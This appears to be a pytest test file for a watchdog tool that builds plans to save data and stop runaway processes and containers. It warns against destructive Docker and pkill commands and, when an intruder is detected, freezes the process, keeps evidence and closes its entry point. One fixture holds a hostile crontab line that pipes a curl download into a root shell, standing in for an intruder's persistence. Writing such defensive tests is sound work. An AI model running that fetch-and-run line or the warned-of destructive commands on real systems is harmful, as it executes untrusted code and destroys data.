"""What a plan saves, warns of and advises beside its steps, and what it does about an intruder."""

from __future__ import annotations

import subprocess
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from support.builders import CONTAINER_ID, make_container, make_facts, make_process, make_service
from support.made_world import Made, made_world

from runaway_watchdog.effects import dumps
from runaway_watchdog.explain import afterwards, intrusion, never, save
from runaway_watchdog.model.casefile import Sign
from runaway_watchdog.model.owner import Owner
from runaway_watchdog.model.plan import Never, Plan
from runaway_watchdog.owners import Layer, hold, single

ANONYMOUS = "ab" * 32


class Engine:
    """This one container, and what else is listed."""

    def __init__(self, *others: dict[str, Any], volumes: tuple[str, ...] = (), version: str = "20.10.24") -> None:
        own = {"Id": CONTAINER_ID, "Names": ["/ocr-worker-1"], "State": "running", "Mounts": [volume(ANONYMOUS)]}
        self._listed, self._volumes, self._version = [own, *others], volumes, version

    def containers(self) -> list[dict[str, Any]]:
        return self._listed

    def volumes(self) -> list[dict[str, Any]]:
        return [{"Name": each, "Driver": "local", "Mountpoint": f"/v/{each}"} for each in self._volumes]

    def info(self) -> dict[str, Any]:
        return {"ServerVersion": self._version}

    def endpoint(self) -> None:
        return None


def volume(name: str) -> dict[str, str]:
    return {"Type": "volume", "Name": name}


def other(name: str, *volumes: str, state: str = "running", project: str = "") -> dict[str, Any]:
    labels = {"com.docker.compose.project": project} if project else {}
    mounts = [volume(each) for each in volumes]
    return {"Id": name.rjust(64, "0"), "Names": [f"/{name}"], "State": state, "Mounts": mounts, "Labels": labels}


def worker(**changes: Any) -> Owner:
    found = make_container(engine_unit="docker.service", **changes)
    return replace(found, raw={**found.raw, "mounts": [volume(ANONYMOUS)]})


def nevers(owner: Owner, engine: Engine) -> dict[str, Never]:
    found, gaps = never.nevers([Layer(owner, make_facts())], made_world([], engine=engine))
    assert gaps == ()
    return {each.command: each for each in found}


# --- save --------------------------------------------------------------------------------------------------------


def test_a_database_that_may_be_in_memory_alone_is_dumped_before_the_stop() -> None:
    """Redis is not frozen first, since it has to answer; PostgreSQL has a log, and a stop loses nothing of it."""
    owner = make_container(image="redis:7", cpu_limit=False)
    layer = Layer(owner, make_facts())
    steps = save.saved(hold([layer]), layer)
    assert [step.phase for step in steps] == ["relieve", "save", "hold", "hold"]
    assert "renice" in steps[0].command
    assert "redis-cli --rdb -" in steps[1].command
    assert steps[1].command.endswith("> /root/ocr-worker-1.rdb")
    plain = Layer(make_container(image="postgres:16"), make_facts())
    assert save.saved(hold([plain]), plain) == hold([plain]).steps


def test_a_database_on_a_folder_in_memory_is_dumped() -> None:
    """Whatever its kind."""
    layer = Layer(make_container(image="postgres:16", memory_only=["/var/lib/postgresql/data"]), make_facts())
    assert any("pg_dumpall" in step.command for step in save.saved(hold([layer]), layer))


def test_redis_on_the_host_is_dumped_by_root() -> None:
    """In whatever unit it runs."""
    layer = Layer(make_service("always"), make_facts(make_process(name="redis-server")))
    (dump,) = (step for step in save.saved(hold([layer]), layer) if step.phase == "save")
    assert dump.command == "umask 077; redis-cli --rdb - > /root/redis-3355.rdb"


def test_a_file_of_sqlite_is_copied_by_its_own_backup() -> None:
    """Any name stays one word of the shell and one of sqlite3; another file has no such copy."""
    line = dumps.of_file("/srv/it's.db", "it's.copy")
    assert line is not None
    said = subprocess.run(
        ["sh", "-c", line.replace("sqlite3", "printf '%s|'", 1)], capture_output=True, text=True, check=True
    )
    assert said.stdout == "/srv/it's.db|.backup 'it''s.copy'|"
    assert dumps.of_file("/srv/x.txt", "x") is None


# --- never -------------------------------------------------------------------------------------------------------


def test_only_what_would_lose_or_hit_something_is_told() -> None:
    """A container alone on its host, without data: nothing to warn of."""
    assert nevers(worker(), Engine()) == {}


def test_a_volume_without_a_name_goes_with_its_container() -> None:
    """By its real name."""
    found = nevers(worker(), Engine(volumes=(ANONYMOUS,)))
    (lost,) = found["docker rm -fv ocr-worker-1"].would_lose
    assert (lost.name, lost.used_by) == (ANONYMOUS, ("ocr-worker-1",))


@pytest.mark.parametrize(("version", "line"), [("20.10.24", "-f"), ("28.5.1", "-af")])
def test_prune_takes_what_nobody_refers_to_now(version: str, line: str) -> None:
    """A stopped database keeps its volume from `volume prune`, and not from `system prune` before Engine 23."""
    stopped = other("db", "pgdata", state="exited")
    found = nevers(worker(), Engine(stopped, volumes=("pgdata", "left"), version=version))
    (lost,) = found[f"docker volume prune {line}"].would_lose
    assert lost.name == "left"
    by_system = found.get("docker system prune -af --volumes")
    names = [] if by_system is None else [each.name for each in by_system.would_lose]
    assert names == (["left", "pgdata"] if version < "23" else [])


def test_the_engine_is_not_to_be_stopped_for_one_container() -> None:
    """Whom it would hit is named; with live-restore nobody, and nobody is named."""
    found = nevers(worker(), Engine(other("shop"), other("old", state="exited")))
    assert found["systemctl stop docker"].why == "it ends 1 other container: shop"
    assert "systemctl stop docker" not in nevers(worker(live_restore=True), Engine(other("shop")))


def test_a_mere_stop_deletes_what_was_made_with_rm() -> None:
    """The plan only pauses it."""
    assert "docker stop ocr-worker-1" in nevers(worker(auto_remove=True), Engine())


def test_processes_of_others_that_bear_the_name() -> None:
    """pkill looks for the name within names; processes of the same owner do not count."""
    made = [
        Made(3355, 1, "burn", ("burn",), "0::/system.slice/a.service"),
        Made(60, 1, "burn", ("burn",), "0::/system.slice/a.service"),
        Made(61, 1, "slowburn", ("slowburn",), "0::/system.slice/b.service"),
    ]
    facts = make_facts(make_process(name="burn", cgroup="/system.slice/a.service"))
    ((told,), _) = never.nevers([Layer(make_service(unit_file="/lib/x"), facts)], made_world(made))
    assert told.command == "pkill burn"
    assert told.why == "it ends another process of that name too: slowburn (61) of b.service"


# --- afterwards --------------------------------------------------------------------------------------------------


def advice(owner: Owner, **world: Any) -> list[tuple[str | None, tuple[str, ...]]]:
    found = afterwards.advice([Layer(owner, make_facts())], made_world([], **world))
    return [(each.where, each.lines) for each in found if each.where]


def test_the_lines_for_a_compose_file() -> None:
    """A limit where the engine enforces one, and an end to the restarts; who shares the host besides."""
    owner = make_container(kind="compose-service")
    engine = Engine(other("a", project="ocr"), other("b", project="shop"), other("c"))
    (where, lines), _ = advice(owner, engine=engine)
    assert where == "/srv/ocr/compose.yml, under services: worker:"
    assert lines == ("cpus: 0.5", "restart: on-failure:5")
    limited = replace(owner, facts={**owner.facts, "cpu_limit": False})
    assert advice(limited, engine=engine)[0][1] == ("restart: on-failure:5",)
    told = afterwards.advice([Layer(owner, make_facts())], made_world([], engine=engine))[-1].what
    assert told == "it shares this host with c, project shop"


def test_the_lines_for_a_unit() -> None:
    """A drop-in; the engine's own unit, and what runs once, get none."""
    ((where, lines),) = advice(make_service("always"))
    assert where == "/etc/systemd/system/burn.service.d/limits.conf, then: systemctl daemon-reload"
    assert lines == ("[Unit]", "StartLimitIntervalSec=10min", "StartLimitBurst=5", "[Service]", "CPUQuota=50%")
    assert advice(make_service("always", transient=True)) == []
    assert advice(replace(make_service("always"), name="docker.service")) == []


@pytest.mark.parametrize(
    ("line", "of_user", "new"),
    [
        ("*/5 * * * * root a && b", False, "*/5 * * * * root flock -n LOCK timeout 1h nice -n 19 sh -c 'a && b'"),
        ("@hourly it's", True, "@hourly flock -n LOCK timeout 1h nice -n 19 sh -c 'it'\"'\"'s'"),
    ],
)
def test_the_line_of_a_crontab(line: str, of_user: bool, new: str) -> None:
    """Once at a time, an hour at most; as the shell reads it, the command is the same."""
    raw = {"text": f"# x\n{line}\n", "line": 2, "of_user": of_user, "script": ""}
    owner = Owner("cron-job", "line 2 of it", "x", "", {"table": "/etc/cron.d/x", "user": "root"}, (), raw)
    ((where, (told,)),) = advice(owner)
    assert where == "line 2 of /etc/cron.d/x"
    assert told == new.replace("LOCK", "/run/lock/line-2-of-it.lock")


# --- signs of an intruder ----------------------------------------------------------------------------------------


def adapted(*signs: Sign, files: dict[str, str] | None = None) -> Plan:
    plan = Plan("Stop it", (*single.relieve(make_process()), single.end(make_process())), ())
    return intrusion.adapted(plan, make_process(), signs, made_world([], texts=files))


def test_an_intruder_is_frozen_kept_and_not_ended() -> None:
    """And nobody is told that a new container would be clean for long."""
    plan = adapted(Sign("posing", "a", "b"))
    assert [step.phase for step in plan.steps] == ["relieve", "save"]
    assert not any("kill 3355" in step.command for step in plan.steps)
    assert "infected again" in plan.goal
    assert intrusion.AGAIN in plan.still


def test_the_door_it_came_in_by_is_closed() -> None:
    """A port, for what comes from outside alone; a scheduled download, by its line; both with their undo."""
    door = Sign("door", "port 6379 (Redis) is open to everybody", "x")
    text = "# a\n* * * * * root curl http://x | sh\n"
    download = Sign("download", "a scheduled line", "/etc/cron.d/x: * * * * * root curl")
    port, line = adapted(door, download, files={"/etc/cron.d/x": text}).steps[2:]
    assert {port.phase, line.phase} == {"close"}
    assert port.undo == port.command.replace("-I", "-D")
    assert "sed '2s/^/# held: /'" in line.command
    assert adapted(download).steps[2:] == ()


def test_the_evidence_is_really_kept(tmp_path: Path) -> None:
    """Of a living process, in a folder for its owner alone."""
    running = subprocess.Popen(["sleep", "60"])
    try:
        ticks = int(Path(f"/proc/{running.pid}/stat").read_text().rpartition(")")[2].split()[19])
        process = make_process(running.pid)
        process = replace(process, key=process.key._replace(start_ticks=ticks))
        (step,) = (
            each
            for each in intrusion.adapted(Plan("", (), ()), process, (), made_world([])).steps
            if each.phase == "save"
        )
        subprocess.run(["sh", "-c", step.command.replace("/root/", f"{tmp_path}/")], check=True)
    finally:
        running.kill()
        running.wait()
    (folder,) = tmp_path.iterdir()
    assert folder.stat().st_mode & 0o077 == 0
    assert (folder / "cmdline").read_bytes() == b"sleep\x0060\x00"
    assert (folder / "program").stat().st_size > 1000
    assert {each.name for each in folder.iterdir()} == {"program", "cmdline", "maps", "fd"}
